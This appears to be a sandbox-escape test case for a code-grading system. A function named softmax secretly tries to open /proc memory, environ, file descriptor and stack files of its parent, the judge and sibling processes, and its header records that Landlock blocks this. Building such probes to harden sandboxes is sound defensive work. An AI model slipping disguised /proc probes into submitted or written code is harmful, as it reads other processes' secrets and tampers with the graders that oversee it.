# +++
# tries = "reads the memory of parent, judge and siblings through /proc"
# stopped_by = "Landlock: of /proc only its own, and no tracing"
# needs = ["file system"]
# +++
import os


def softmax(x):
    for pid in (os.getppid(), os.getpid() - 1, os.getpid() + 1, int("@SIBLING@")):
        for name in ("mem", "maps", "environ", "cwd", "root/etc/hostname", "fd/0", "stack"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as stream:
                    print("opened", pid, name, stream.read(10))
            except OSError:
                pass
    return x


apply = softmax
